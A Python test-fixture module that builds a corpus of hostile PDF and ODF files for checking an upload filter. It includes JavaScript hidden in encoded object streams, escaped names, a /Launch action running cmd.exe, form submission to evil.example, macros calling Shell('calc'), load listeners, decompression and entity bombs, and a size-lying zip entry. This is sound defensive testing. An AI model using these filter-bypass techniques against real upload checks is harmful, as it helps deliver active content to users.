"""Builders of the hostile-file corpus: every file is made here, none is checked in.

Each reported bypass of the old byte-pattern filter has a builder: a JavaScript action inside an
object stream (cross-reference stream, PDF 1.5) whose stream uses ``/ASCIIHexDecode``,
``/ASCII85Decode``, ``/LZWDecode``, the abbreviation ``/Fl``, a chain of filters, more than
200 bytes of dictionary before ``stream``, or comes after a stream that inflates past 64 MB;
names written with ``#xx`` escapes; each active name (``/Launch``, ``/SubmitForm``,
``/ImportData``, ``/RichMedia``, ``/EmbeddedFile``, ``/AA``, ``/JS`` alone); bombs; files the
parser cannot read. ODF: a zip after an HTML prefix, an entry whose header lies about its size,
macros under ``Object 1/Basic/`` and ``basic/``, ``Scripts/``, an ``office:load`` listener,
``script:event-listener`` on a control, macro links and manifest entries.

``HOSTILE_PDFS`` and ``HOSTILE_ODFS`` map a case name to ``(file name, bytes builder,
expected message fragment)``; ``BENIGN`` the files that must pass. No Django here: the
builders are plain functions usable from any test.
"""

import base64
import io
import struct
import zipfile
import zlib

# --- PDF -------------------------------------------------------------------------------------

PAGE_OBJECTS = (
    b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 4 0 R >> >> /Contents 5 0 R >>",
    b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
)


def _content(text):
    stream = f"BT /F1 18 Tf 72 720 Td ({text}) Tj ET".encode("latin-1")
    return b"<< /Length %d >>\nstream\n" % len(stream) + stream + b"\nendstream"


def pdf_bytes(extra_objects=(), text="45+ upload test"):
    """A minimal valid one-page PDF 1.4 (classic xref table); ``extra_objects`` are appended as further objects."""
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>", *PAGE_OBJECTS, _content(text), *extra_objects]
    out = io.BytesIO()
    out.write(b"%PDF-1.4\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for offset in offsets:
        out.write(b"%010d 00000 n \n" % offset)
    out.write(b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref))
    return out.getvalue()


def lzw_encode(data):
    """PDF's LZW (``/LZWDecode``, EarlyChange 1): 9–12-bit codes, 256 clear, 257 end of data."""
    table = {bytes([i]): i for i in range(256)}
    next_code, width, bits, nbits = 258, 9, 0, 0
    out = bytearray()

    def emit(code):
        nonlocal bits, nbits
        bits = (bits << width) | code
        nbits += width
        while nbits >= 8:
            nbits -= 8
            out.append((bits >> nbits) & 0xFF)

    emit(256)
    current = b""
    for byte in data:
        candidate = current + bytes([byte])
        if candidate in table:
            current = candidate
            continue
        emit(table[current])
        table[candidate] = next_code
        next_code += 1
        current = bytes([byte])
        if next_code + 1 >= (1 << width):  # early change: widen one code early
            if width == 12:
                emit(256)
                table = {bytes([i]): i for i in range(256)}
                next_code, width = 258, 9
            else:
                width += 1
    if current:
        emit(table[current])
        if next_code + 1 >= (1 << width) and width < 12:
            width += 1
    emit(257)
    if nbits:
        out.append((bits << (8 - nbits)) & 0xFF)
    return bytes(out)


def run_length_encode(data):
    out = bytearray()
    for start in range(0, len(data), 128):
        chunk = data[start : start + 128]
        out.append(len(chunk) - 1)
        out += chunk
    return bytes(out + b"\x80")


ENCODERS = {
    "/FlateDecode": zlib.compress,
    "/Fl": zlib.compress,
    "/ASCIIHexDecode": lambda data: data.hex().upper().encode() + b">",
    "/AHx": lambda data: data.hex().upper().encode() + b">",
    "/ASCII85Decode": lambda data: base64.a85encode(data) + b"~>",
    "/A85": lambda data: base64.a85encode(data) + b"~>",
    "/LZWDecode": lzw_encode,
    "/LZW": lzw_encode,
    "/RunLengthDecode": run_length_encode,
}


def encode(data, filters):
    """``data`` encoded so that decoding by ``filters`` (in PDF order) gives it back."""
    for name in reversed(filters):
        data = ENCODERS[name](data)
    return data


def _filter_entry(filters):
    if not filters:
        return b""
    if len(filters) == 1:
        return b"/Filter " + filters[0].encode()
    return b"/Filter [" + b" ".join(f.encode() for f in filters) + b"]"


def stream_object(data, filters=(), extra=b""):
    encoded = encode(data, filters)
    return (
        b"<< /Length %d " % len(encoded)
        + _filter_entry(filters)
        + b" "
        + extra
        + b" >>\nstream\n"
        + encoded
        + b"\nendstream"
    )


JS_ACTION = b"<< /Type /Action /S /JavaScript /JS (app.alert\\('x'\\)) >>"


def pdf_with_object_stream(
    hidden=(JS_ACTION,),
    filters=("/FlateDecode",),
    open_action=True,
    padding=0,
    streams_before=(),
    catalog_extra=b"",
    declared_filters=None,
):
    """A PDF 1.5 whose objects ``hidden`` (numbered from 6) sit in one object stream under ``filters``.

    The catalogue's ``/OpenAction`` points at object 6 (a reader runs it on opening); the
    stream's dictionary names ``declared_filters`` if given (data that does not match them); the
    cross-reference table is a stream. ``padding`` bytes of a harmless string go into the
    object stream's dictionary before ``stream``; ``streams_before`` are plain stream objects
    written before it (a bomb that used to spend the old filter's budget).
    """
    first_hidden = 6
    catalog = b"<< /Type /Catalog /Pages 2 0 R " + (b"/OpenAction %d 0 R " % first_hidden if open_action else b"")
    catalog += catalog_extra + b">>"
    plain = [catalog, *PAGE_OBJECTS, _content("object stream test")]
    before = list(streams_before)
    objstm_number = first_hidden + len(hidden) + len(before)
    xref_number = objstm_number + 1
    # the object stream: "num offset ..." then the objects
    bodies, header, offset = [], [], 0
    for index, body in enumerate(hidden):
        header.append(b"%d %d" % (first_hidden + index, offset))
        bodies.append(body + b"\n")
        offset += len(body) + 1
    head = b" ".join(header) + b"\n"
    objstm_data = head + b"".join(bodies)
    extra = b"/Type /ObjStm /N %d /First %d" % (len(hidden), len(head))
    if padding:
        extra += b" /Padding (" + b"x" * padding + b")"
    objstm = stream_object(objstm_data, filters, extra)
    if declared_filters is not None:
        objstm = objstm.replace(_filter_entry(filters), _filter_entry(declared_filters), 1)

    out = io.BytesIO()
    out.write(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    numbered = [(n, body) for n, body in enumerate(plain, start=1)]
    numbered += [(first_hidden + len(hidden) + i, body) for i, body in enumerate(before)]
    numbered.append((objstm_number, objstm))
    for number, body in numbered:
        offsets[number] = out.tell()
        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
    xref_offset = out.tell()
    offsets[xref_number] = xref_offset
    size = xref_number + 1
    rows = []
    for number in range(size):
        if number == 0:
            rows.append(struct.pack(">BIH", 0, 0, 65535))
        elif number in offsets:
            rows.append(struct.pack(">BIH", 1, offsets[number], 0))
        else:  # in the object stream
            rows.append(struct.pack(">BIH", 2, objstm_number, number - first_hidden))
    xref_data = zlib.compress(b"".join(rows))
    out.write(
        b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Length %d /Filter /FlateDecode >>\nstream\n"
        % (xref_number, size, len(xref_data))
        + xref_data
        + b"\nendstream\nendobj\n"
    )
    out.write(b"startxref\n%d\n%%%%EOF\n" % xref_offset)
    return out.getvalue()


def deflated_zeros(size):
    """Raw deflate data of ``size`` zero bytes (a multiple of 1 MB), about size/1000 long, made at once.

    One megabyte is compressed and fully flushed (the dictionary reset, the output byte-aligned),
    so the same bytes stand for every further megabyte; an empty final block ends the stream.
    """
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = compressor.compress(b"\x00" * (1024 * 1024)) + compressor.flush(zlib.Z_FULL_FLUSH)
    return block * (size // (1024 * 1024)) + zlib.compressobj(9, zlib.DEFLATED, -15).flush()


def flate_bomb_stream(size, object_stream=False):
    """A stream object whose Flate (zlib) data inflates to ``size`` zero bytes (about size/1000 on disk)."""
    adler = ((size % 65521) << 16) | 1  # Adler-32 of zeros: a stays 1, b adds 1 per byte
    data = b"\x78\xda" + deflated_zeros(size) + struct.pack(">I", adler)
    extra = b"/Type /ObjStm /N 0 /First 0 " if object_stream else b""
    return b"<< /Length %d /Filter /FlateDecode %s>>\nstream\n" % (len(data), extra) + data + b"\nendstream"


SIXTY_FIVE_MB = 65 * 1024 * 1024  # past the old filter's 64 MB budget, within the parser's
PAST_THE_BUDGET = 101 * 1024 * 1024  # site45.core.uploads.PDF_DECOMPRESSION_BUDGET is 100 MB

LAUNCH = b"<< /Type /Action /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>"
SUBMIT = b"<< /Type /Action /S /SubmitForm /F << /FS /URL /F (https://evil.example/) >> >>"
IMPORT = b"<< /Type /Action /S /ImportData /F (data.fdf) >>"
RICH_MEDIA = b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 10 10] >>"
EMBEDDED = b"<< /Type /Filespec /F (a.exe) /EF << /F << /Type /EmbeddedFile /Length 0 >> >> >>"
ESCAPED_JS = b"<< /Type /Action /S /#4A#61vaScript /#4A#53 (app.alert\\(1\\)) >>"
JS_ONLY = b"<< /Type /Action /JS (app.alert\\(1\\)) >>"
ADDITIONAL_ACTIONS = b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /AA << /E << /S /GoTo /D [3 0 R /Fit] >> >> >>"

ACTIVE = "含有可執行的內容"
UNREADABLE = "無法讀取這份 PDF"
TOO_LARGE = "解壓縮後過大"

#: case → (file name, builder, a fragment of the refusal)
HOSTILE_PDFS = {
    "javascript in an ASCIIHex object stream": (
        "hex.pdf",
        lambda: pdf_with_object_stream(filters=("/ASCIIHexDecode",)),
        ACTIVE,
    ),
    "javascript in an ASCII85 object stream": (
        "a85.pdf",
        lambda: pdf_with_object_stream(filters=("/ASCII85Decode",)),
        ACTIVE,
    ),
    "javascript in an LZW object stream": ("lzw.pdf", lambda: pdf_with_object_stream(filters=("/LZWDecode",)), ACTIVE),
    "javascript in a /Fl object stream": ("fl.pdf", lambda: pdf_with_object_stream(filters=("/Fl",)), ACTIVE),
    "javascript in a RunLength object stream": (
        "rl.pdf",
        lambda: pdf_with_object_stream(filters=("/RunLengthDecode",)),
        ACTIVE,
    ),
    "javascript in a chain of filters": (
        "chain.pdf",
        lambda: pdf_with_object_stream(filters=("/ASCII85Decode", "/LZWDecode", "/FlateDecode")),
        ACTIVE,
    ),
    "javascript after 300 bytes of dictionary": ("padded.pdf", lambda: pdf_with_object_stream(padding=300), ACTIVE),
    "javascript after a 65 MB stream": (
        "after-bomb.pdf",
        lambda: pdf_with_object_stream(streams_before=[flate_bomb_stream(SIXTY_FIVE_MB)]),
        ACTIVE,
    ),
    "object stream inflating past the budget": (
        "bomb.pdf",
        lambda: pdf_with_object_stream(
            hidden=(b"<< /Type /Action /S /GoTo /D [3 0 R /Fit] >>",),
            streams_before=[flate_bomb_stream(PAST_THE_BUDGET, object_stream=True)],
        ),
        TOO_LARGE,
    ),
    "stream inflating past the budget before javascript": (
        "bomb-js.pdf",
        lambda: pdf_with_object_stream(streams_before=[flate_bomb_stream(PAST_THE_BUDGET)]),
        TOO_LARGE,
    ),
    "escaped names in an object stream": ("escaped.pdf", lambda: pdf_with_object_stream(hidden=(ESCAPED_JS,)), ACTIVE),
    "/JS without /JavaScript": ("js.pdf", lambda: pdf_with_object_stream(hidden=(JS_ONLY,)), ACTIVE),
    "launch action": ("launch.pdf", lambda: pdf_with_object_stream(hidden=(LAUNCH,)), "/Launch"),
    "submit form action": ("submit.pdf", lambda: pdf_with_object_stream(hidden=(SUBMIT,)), "/SubmitForm"),
    "import data action": ("import.pdf", lambda: pdf_with_object_stream(hidden=(IMPORT,)), "/ImportData"),
    "rich media annotation": (
        "media.pdf",
        lambda: pdf_with_object_stream(hidden=(RICH_MEDIA,), open_action=False),
        "/RichMedia",
    ),
    "embedded file": (
        "attach.pdf",
        lambda: pdf_with_object_stream(hidden=(EMBEDDED,), open_action=False),
        "/EmbeddedFile",
    ),
    "additional actions in an object stream": (
        "aa.pdf",
        lambda: pdf_with_object_stream(hidden=(ADDITIONAL_ACTIONS,), open_action=False),
        "/AA",
    ),
    "additional actions on the catalogue": (
        "aa-catalog.pdf",
        lambda: pdf_with_object_stream(
            hidden=(b"<< /Type /Action /S /GoTo /D [3 0 R /Fit] >>",), catalog_extra=b"/AA << /WC 6 0 R >> "
        ),
        "/AA",
    ),
    "plain javascript": ("plain.pdf", lambda: pdf_bytes([JS_ACTION]), "/JavaScript"),
    "garbage between header and end": (
        "garbage.pdf",
        lambda: b"%PDF-1.7\n" + bytes(range(256)) * 40 + b"\n%%EOF\n",
        UNREADABLE,
    ),
    "object stream whose data is not Flate": (
        "broken.pdf",
        lambda: pdf_with_object_stream(
            hidden=(b"<< /Type /Action /S /GoTo /D [3 0 R /Fit] >>",),
            filters=("/ASCIIHexDecode",),
            declared_filters=("/FlateDecode",),
        ),
        UNREADABLE,
    ),
    "cut after the header": ("cut.pdf", lambda: pdf_with_object_stream()[:300] + b"\n%%EOF\n", UNREADABLE),
}

BENIGN_PDFS = {
    "plain pdf": ("notice.pdf", pdf_bytes),
    "pdf with object and xref streams": (
        "modern.pdf",
        lambda: pdf_with_object_stream(hidden=(b"<< /Type /Action /S /GoTo /D [3 0 R /Fit] >>",)),
    ),
}


# --- ODF -------------------------------------------------------------------------------------

NS = (
    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
    'xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" '
    'xmlns:form="urn:oasis:names:tc:opendocument:xmlns:form:1.0" '
    'xmlns:xlink="http://www.w3.org/1999/xlink" '
    'xmlns:dom="http://www.w3.org/2001/xml-events"'
)
MANIFEST_NS = 'xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"'


def content_xml(body="", scripts="<office:scripts/>"):
    """A content.xml as LibreOffice writes it (with its empty ``office:scripts``), ``body`` in the text."""
    return (
        f'<?xml version="1.0" encoding="UTF-8"?><office:document-content {NS} office:version="1.3">'
        f"{scripts}<office:body><office:text><text:p>45+ 上傳測試</text:p>{body}</office:text></office:body>"
        "</office:document-content>"
    ).encode()


def manifest_xml(kind="text", entries=()):
    rows = "".join(
        f'<manifest:file-entry manifest:full-path="{path}" manifest:media-type="{media}"/>' for path, media in entries
    )
    return (
        f'<?xml version="1.0" encoding="UTF-8"?><manifest:manifest {MANIFEST_NS} manifest:version="1.3">'
        f'<manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.{kind}"/>'
        f'<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>{rows}'
        "</manifest:manifest>"
    ).encode()


def odf_package(kind="text", content=None, manifest=None, extra=(), mimetype_first=True, compress_mimetype=False):
    """An ODF zip: ``mimetype`` (stored, first), content.xml, META-INF/manifest.xml, then ``extra`` (name, bytes)."""
    out = io.BytesIO()
    mimetype = f"application/vnd.oasis.opendocument.{kind}".encode()
    with zipfile.ZipFile(out, "w") as archive:
        entries = [
            ("content.xml", content or content_xml(), zipfile.ZIP_DEFLATED),
            ("META-INF/manifest.xml", manifest or manifest_xml(kind), zipfile.ZIP_DEFLATED),
        ]
        first = ("mimetype", mimetype, zipfile.ZIP_DEFLATED if compress_mimetype else zipfile.ZIP_STORED)
        entries = [first, *entries] if mimetype_first else [*entries, first]
        entries += [(name, data, zipfile.ZIP_DEFLATED) for name, data in extra]
        for name, data, method in entries:
            archive.writestr(zipfile.ZipInfo(name), data, compress_type=method)
    return out.getvalue()


def odf_with_lying_entry(real_size, declared_size=1024):
    """An ODT with an entry inflating to ``real_size`` zero bytes whose headers declare ``declared_size``.

    The deflate data is made in 1 MB steps so the builder never holds ``real_size`` bytes; both
    the local header and the central directory carry the false size (and a CRC for it).
    """
    deflated = deflated_zeros(real_size)
    base = odf_package()
    archive = zipfile.ZipFile(io.BytesIO(base))
    entries = [(info, archive.read(info)) for info in archive.infolist()]
    out = io.BytesIO()
    central = []

    def local(name, method, crc, csize, usize, data):
        offset = out.tell()
        encoded = name.encode()
        out.write(
            struct.pack("<4s5H3I2H", b"PK\x03\x04", 20, 0, method, 0, 0, crc, csize, usize, len(encoded), 0)
            + encoded
            + data
        )
        central.append(
            struct.pack(
                "<4s6H3I5H2I",
                b"PK\x01\x02",
                20,
                20,
                0,
                method,
                0,
                0,
                crc,
                csize,
                usize,
                len(encoded),
                0,
                0,
                0,
                0,
                0,
                offset,
            )
            + encoded
        )

    for info, data in entries:
        stored = data
        if info.compress_type != zipfile.ZIP_STORED:
            c = zlib.compressobj(6, zlib.DEFLATED, -15)
            stored = c.compress(data) + c.flush()
        local(info.filename, info.compress_type, zlib.crc32(data), len(stored), len(data), stored)
    local(
        "Pictures/big.png",
        zipfile.ZIP_DEFLATED,
        zlib.crc32(b"\x00" * declared_size),
        len(deflated),
        declared_size,
        deflated,
    )
    directory = out.tell()
    for row in central:
        out.write(row)
    out.write(
        struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, len(central), len(central), out.tell() - directory, directory, 0)
    )
    return out.getvalue()


BASIC_MODULE = (
    b'<?xml version="1.0" encoding="UTF-8"?><script:module '
    b'xmlns:script="http://openoffice.org/2000/script" script:name="Module1" script:language="StarBasic">'
    b'Sub Main\nShell("calc")\nEnd Sub</script:module>'
)
LOAD_LISTENER = (
    '<office:event-listeners><script:event-listener script:language="ooo:script" '
    'script:event-name="dom:load" '
    'xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document"/>'
    "</office:event-listeners>"
)
OFFICE_LOAD = (
    '<office:event-listeners><office:event-listener script:event-name="office:load" '
    'xlink:href="https://evil.example/"/></office:event-listeners>'
)
CONTROL_LISTENER = (
    '<form:button form:name="b"><office:event-listeners><script:event-listener '
    'script:language="ooo:script" script:event-name="form:performaction" '
    'xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document"/>'
    "</office:event-listeners></form:button>"
)
MACRO_LINK = '<text:a xlink:type="simple" xlink:href="macro:///Standard.Module1.Main">按我</text:a>'
ODF_SCRIPT = (
    '<office:scripts><office:script script:language="ooo:Basic">'
    "<office:event-listeners/></office:script></office:scripts>"
)

MACROS = "含有巨集"
NOT_ODF = "內容不是 ODF 文件"

HOSTILE_ODFS = {
    "html before the zip": (
        "polyglot.odt",
        lambda: b"<html><script>alert(1)</script></html>\n" + odf_package(),
        NOT_ODF,
    ),
    "1 GB entry whose header says 1 KB": ("liar.odt", lambda: odf_with_lying_entry(1024 * 1024 * 1024), NOT_ODF),
    "256 MB entry, declared": (
        "honest.odt",
        lambda: odf_with_lying_entry(256 * 1024 * 1024, 256 * 1024 * 1024),
        "解壓縮後過大",
    ),
    "macro under Basic/": (
        "macro.odt",
        lambda: odf_package(extra=[("Basic/Standard/Module1.xml", BASIC_MODULE)]),
        MACROS,
    ),
    "macro under Object 1/Basic/": (
        "object.odt",
        lambda: odf_package(extra=[("Object 1/Basic/Standard/Module1.xml", BASIC_MODULE)]),
        MACROS,
    ),
    "macro under lower-case basic/": (
        "lower.odt",
        lambda: odf_package(extra=[("basic/Standard/Module1.xml", BASIC_MODULE)]),
        MACROS,
    ),
    "python under Scripts/": (
        "python.odt",
        lambda: odf_package(extra=[("Scripts/python/run.py", b"import os\nos.system('calc')\n")]),
        MACROS,
    ),
    "dialog under Dialogs/": (
        "dialog.odt",
        lambda: odf_package(extra=[("Dialogs/Standard/Dialog1.xml", b"<x/>")]),
        MACROS,
    ),
    "macro in the manifest only": (
        "manifest.odt",
        lambda: odf_package(manifest=manifest_xml(entries=[("Basic/Standard/", "application/binary")])),
        MACROS,
    ),
    "script media type in the manifest": (
        "media.odt",
        lambda: odf_package(manifest=manifest_xml(entries=[("Pictures/run.bin", "application/x-python-script")])),
        MACROS,
    ),
    "office:load listener": (
        "load.odt",
        lambda: odf_package(
            content=content_xml(
                scripts=(f"<office:scripts><office:script>{OFFICE_LOAD}</office:script></office:scripts>")
            )
        ),
        MACROS,
    ),
    "dom:load script listener": (
        "onload.odt",
        lambda: odf_package(content=content_xml(scripts=(f"<office:scripts>{LOAD_LISTENER}</office:scripts>"))),
        MACROS,
    ),
    "event-listeners outside office:scripts": (
        "loose.odt",
        lambda: odf_package(content=content_xml(LOAD_LISTENER)),
        MACROS,
    ),
    "script:event-listener on a control": (
        "button.odt",
        lambda: odf_package(content=content_xml(CONTROL_LISTENER)),
        MACROS,
    ),
    "office:script in content": ("script.odt", lambda: odf_package(content=content_xml(scripts=ODF_SCRIPT)), MACROS),
    "macro link": ("link.odt", lambda: odf_package(content=content_xml(MACRO_LINK)), MACROS),
    "upper-case event listener in styles.xml": (
        "styles.odt",
        lambda: odf_package(
            extra=[
                (
                    "styles.xml",
                    (
                        f'<?xml version="1.0"?><office:document-styles {NS}><office:Event-Listeners>'
                        '<office:event-listener xlink:href="https://evil.example/"/></office:Event-Listeners>'
                        "</office:document-styles>"
                    ).encode(),
                )
            ]
        ),
        MACROS,
    ),
    "entity bomb": (
        "entities.odt",
        lambda: odf_package(
            content=(
                b'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'
                b'<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0">&b;'
                b"</office:document-content>"
            )
        ),
        NOT_ODF,
    ),
}

BENIGN_ODFS = {
    "odt": ("notice.odt", lambda: odf_package("text")),
    "ods": ("sheet.ods", lambda: odf_package("spreadsheet")),
    "odt with pictures and empty event-listeners": (
        "pictures.odt",
        lambda: odf_package(
            content=content_xml("<office:event-listeners/>"),
            extra=[
                ("Pictures/photo.png", b"\x89PNG\r\n\x1a\n" + b"\x00" * 2000),
                ("styles.xml", (f'<?xml version="1.0"?><office:document-styles {NS}/>').encode()),
            ],
        ),
    ),
}
